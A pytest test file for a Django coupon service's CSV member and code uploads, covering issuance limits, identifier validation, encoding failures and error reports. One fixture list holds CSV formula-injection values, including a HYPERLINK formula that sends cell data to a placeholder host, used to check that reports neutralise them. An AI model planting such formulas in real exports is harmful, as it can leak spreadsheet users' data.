"""Uploads, including the seed's four duplicate-member cases with the seed's own numbers."""

import csv
import io

import pytest
from django.core.files.base import ContentFile

from config.actors import Actor
from coupons.issuance.uploads import upload_create
from coupons.models import Coupon, CouponSeries, Upload
from tests.coupons.factories import CouponSeriesFactory
from tests.coupons.uploading import report
from tests.members.factories import MemberFactory

pytestmark = pytest.mark.django_db
ACTOR = Actor.system()


def four_rows(member):
    return "user_id\n" + f"{member.user_id}\n" * 4


def test_seed_case_1_member_limit_three_with_four_duplicates(run):
    series = CouponSeriesFactory(max_per_member=3, min_gap_days=None, series_limit=None)
    member = MemberFactory()
    first = run(series, four_rows(member))
    assert (first.status, first.total_rows, first.succeeded, first.failed) == ("succeeded", 4, 3, 1)
    assert [(r["row"], r["code"]) for r in report(first)] == [("4", "member_limit_reached")]
    again = run(series, four_rows(member))
    assert (again.succeeded, again.failed) == (0, 4)
    single = run(series, f"user_id\n{member.user_id}\n")
    assert (single.succeeded, single.failed) == (0, 1)
    assert Coupon.objects.filter(series=series, member=member).count() == 3


def test_seed_case_2_min_gap_one_day(run):
    series = CouponSeriesFactory(max_per_member=3, min_gap_days=1)
    member = MemberFactory()
    upload = run(series, four_rows(member))
    assert (upload.succeeded, upload.failed) == (1, 3)
    assert {r["code"] for r in report(upload)} == {"min_gap_not_met"}


def test_seed_case_3_series_limit_two(run):
    series = CouponSeriesFactory(max_per_member=None, series_limit=2)
    member = MemberFactory()
    upload = run(series, four_rows(member))
    assert (upload.succeeded, upload.failed) == (2, 2)
    assert [r["code"] for r in report(upload)] == ["series_limit_reached"] * 2


def test_seed_case_4_generic_code_once_per_member(run):
    series = CouponSeriesFactory(common=True)
    member = MemberFactory()
    upload = run(series, four_rows(member))
    assert (upload.succeeded, upload.failed) == (1, 3)
    assert {r["code"] for r in report(upload)} == {"generic_code_already_issued"}
    again = run(series, four_rows(member))
    assert (again.succeeded, again.failed) == (0, 4)
    assert {r["code"] for r in report(again)} == {"generic_code_already_issued"}


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        ("external_id", "NOPE-1", "invalid_external_id"),
        ("external_id", "bad id!", "invalid_external_id"),
        ("mobile", "+19999999999", "invalid_mobile"),
        ("mobile", "12", "invalid_mobile"),
        ("email", "nobody@example.com", "invalid_email"),
        ("email", "not-an-email", "invalid_email"),
        ("user_id", "unknown-user", "invalid_user_id"),
    ],
)
def test_upload_member_validations(run, column, value, code):
    series = CouponSeriesFactory()
    upload = run(series, f"{column}\n{value}\n")
    assert (upload.succeeded, upload.failed) == (0, 1)
    assert [(r["identifier"], r["code"]) for r in report(upload)] == [(value, code)]


def test_upload_inactive_user_id_is_invalid_and_inactive_external_id_is_member_inactive(run):
    series = CouponSeriesFactory()
    inactive = MemberFactory(inactive=True)
    by_user = run(series, f"user_id\n{inactive.user_id}\n")
    assert [r["code"] for r in report(by_user)] == ["invalid_user_id"]
    by_external = run(series, f"external_id\n{inactive.external_id}\n")
    assert [r["code"] for r in report(by_external)] == ["member_inactive"]


def test_upload_by_mobile_and_email_issues(run):
    series = CouponSeriesFactory()
    a, b = MemberFactory(), MemberFactory()
    assert run(series, f"mobile\n{a.mobile}\n").succeeded == 1
    assert run(series, f"email\n{b.email.upper()}\n").succeeded == 1
    assert Coupon.objects.filter(series=series).count() == 2


def test_upload_specific_members_series_adds_rows_to_its_list(run):
    series = CouponSeriesFactory(specific_members_only=True)
    member = MemberFactory()
    assert run(series, f"external_id\n{member.external_id}\n").succeeded == 1
    assert series.allowed_rows.filter(member=member).exists()


@pytest.mark.parametrize(
    "text", ["", "name\nx\n", "external_id,email\nA,b@example.com\n", b"\xff\xfe\x00garbage".decode("latin-1")]
)
def test_upload_unreadable_file_fails_as_a_whole(run, text):
    upload = run(CouponSeriesFactory(), text)
    assert upload.status == Upload.Status.FAILED and upload.error
    assert Coupon.objects.count() == 0


def test_upload_codes_with_and_without_members(run):
    series = CouponSeriesFactory(uploaded=True)
    member = MemberFactory()
    upload = run(series, f"code,external_id\nold-001,{member.external_id}\nOLD-002,\nOLD-002,\nbad code!,\n", "codes")
    assert (upload.total_rows, upload.succeeded, upload.failed) == (4, 2, 2)
    assert [r["code"] for r in report(upload)] == ["duplicate_code", "malformed_row"]
    assert Coupon.objects.get(code="OLD-001").member == member
    assert Coupon.objects.get(code="OLD-002").status == Coupon.Status.UNISSUED
    series.refresh_from_db()
    assert (series.code_count, series.issued_count) == (2, 1)


def test_upload_codes_refused_for_generated_series(run):
    from coupons.exceptions import UploadError

    with pytest.raises(UploadError):
        run(CouponSeriesFactory(), "code\nX\n", "codes")
    with pytest.raises(UploadError):
        run(CouponSeriesFactory(code_mode=CouponSeries.CodeMode.RANDOMIZED_COMMON, code_prefix="AB"), "user_id\nx\n")


FORMULA_IDENTIFIERS = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "-12.50", "+3"]
SAFE_IDENTIFIERS = ['\'=HYPERLINK("http://x.example/?"&A1)', "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "-12.50", "+3"]


def upload_with_formula_identifiers(run):
    rows = "".join(f'"{value.replace(chr(34), chr(34) * 2)}"\n' for value in FORMULA_IDENTIFIERS)
    return run(CouponSeriesFactory(), "external_id\n" + rows)


def test_upload_report_file_neutralises_formula_cells_but_keeps_plain_numbers(run):
    rows = report(upload_with_formula_identifiers(run))
    assert [row["identifier"] for row in rows] == SAFE_IDENTIFIERS
    assert {row["code"] for row in rows} == {"invalid_external_id"}


def test_upload_report_download_through_the_api_is_neutralised(run, marketer):
    upload = upload_with_formula_identifiers(run)
    response = marketer.get(f"/api/v1/uploads/{upload.pk}/error-report")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["identifier"] for row in rows] == SAFE_IDENTIFIERS


def test_upload_row_with_a_nul_cell_is_malformed_and_the_rest_issue(django_capture_on_commit_callbacks):
    series = CouponSeriesFactory(max_per_member=None, min_gap_days=None, series_limit=None)
    first, last = MemberFactory(), MemberFactory()
    raw = f"external_id\n{first.external_id}\nM\x00X\n{last.external_id}\n".encode()
    with django_capture_on_commit_callbacks(execute=True):
        upload = upload_create(series=series, kind="members", file=ContentFile(raw, name="f.csv"), actor=ACTOR)
    upload.refresh_from_db()
    assert (upload.status, upload.total_rows, upload.succeeded, upload.failed) == ("succeeded", 3, 2, 1)
    assert [(r["row"], r["code"]) for r in report(upload)] == [("2", "malformed_row")]
    assert set(Coupon.objects.filter(series=series).values_list("member_id", flat=True)) == {first.pk, last.pk}


@pytest.mark.parametrize(
    ("encoding", "bom"), [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf")], ids=["utf-8", "utf-8 with a BOM"]
)
def test_upload_reads_utf8_with_or_without_a_byte_order_mark(django_capture_on_commit_callbacks, encoding, bom):
    series = CouponSeriesFactory(max_per_member=None, min_gap_days=None, series_limit=None)
    member = MemberFactory(external_id="MÜ-1".replace("Ü", "U"))
    raw = bom + f"External_ID\n{member.external_id}\nZÖE-ÿ\n".encode(encoding)
    with django_capture_on_commit_callbacks(execute=True):
        upload = upload_create(series=series, kind="members", file=ContentFile(raw, name="f.csv"), actor=ACTOR)
    upload.refresh_from_db()
    assert (upload.status, upload.total_rows, upload.succeeded, upload.failed) == ("succeeded", 2, 1, 1)
    assert [(r["identifier"], r["code"]) for r in report(upload)] == [("ZÖE-ÿ", "invalid_external_id")]


@pytest.mark.parametrize(
    "raw",
    [
        "external_id\nZÖE\n".encode("latin-1"),
        "external_id\nZOE\n".encode("utf-16"),
        "external_id\nZOE\n".encode("utf-16-le"),
        b"external_id\nM\xed\xa0\x80X\n",  # a UTF-16 surrogate written as UTF-8
        b"external_id\nM-1\n" * 3 + b"\xff\n",  # readable until its last line
    ],
    ids=["latin-1", "utf-16 with a BOM", "utf-16 without", "encoded surrogate", "bad last line"],
)
def test_upload_in_another_encoding_fails_with_the_reason_and_issues_nothing(django_capture_on_commit_callbacks, raw):
    series = CouponSeriesFactory(max_per_member=None, min_gap_days=None, series_limit=None)
    MemberFactory(external_id="M-1")
    with django_capture_on_commit_callbacks(execute=True):
        upload = upload_create(series=series, kind="members", file=ContentFile(raw, name="f.csv"), actor=ACTOR)
    upload.refresh_from_db()
    assert upload.status == Upload.Status.FAILED
    assert (upload.processed_rows, upload.succeeded, upload.failed) == (0, 0, 0)
    assert upload.error.startswith("The file is not ")
    assert "UTF-8" in upload.error
    assert Coupon.objects.filter(series=series).count() == 0


def test_upload_short_row_is_judged_and_a_nul_in_any_named_column_is_malformed(django_capture_on_commit_callbacks):
    series = CouponSeriesFactory(max_per_member=None, min_gap_days=None, series_limit=None)
    member = MemberFactory()
    raw = f"external_id,note\n{member.external_id}\nM-NONE,a\x00b,extra\n".encode()
    with django_capture_on_commit_callbacks(execute=True):
        upload = upload_create(series=series, kind="members", file=ContentFile(raw, name="f.csv"), actor=ACTOR)
    upload.refresh_from_db()
    assert (upload.status, upload.succeeded, upload.failed) == ("succeeded", 1, 1)
    assert [(r["row"], r["code"]) for r in report(upload)] == [("2", "malformed_row")]


@pytest.mark.parametrize(
    "raw",
    [b"external_id\n" + b"A" * 200_000 + b"\n", b'external_id\n"unterminated\n' + b"x" * 200_000],
    ids=["a cell past the CSV field limit", "an unterminated quote"],
)
def test_upload_that_csv_cannot_read_fails_with_the_reason(django_capture_on_commit_callbacks, raw):
    with django_capture_on_commit_callbacks(execute=True):
        upload = upload_create(series=CouponSeriesFactory(), kind="members", file=ContentFile(raw, name="f.csv"),
                               actor=ACTOR)  # fmt: skip
    upload.refresh_from_db()
    assert (upload.status, upload.processed_rows) == ("failed", 0)
    assert upload.error.startswith("The file is not a readable CSV")


def test_upload_identifiers_at_the_extremes_are_invalid_not_errors(run):
    series = CouponSeriesFactory()
    values = [str(2**63), str(2**31), "9" * 65, "-1", "0", "+" + "9" * 20]
    upload = run(series, "user_id\n" + "".join(f"{value}\n" for value in values))
    assert (upload.status, upload.succeeded, upload.failed) == ("succeeded", 0, len(values))
    assert {r["code"] for r in report(upload)} == {"invalid_user_id"}
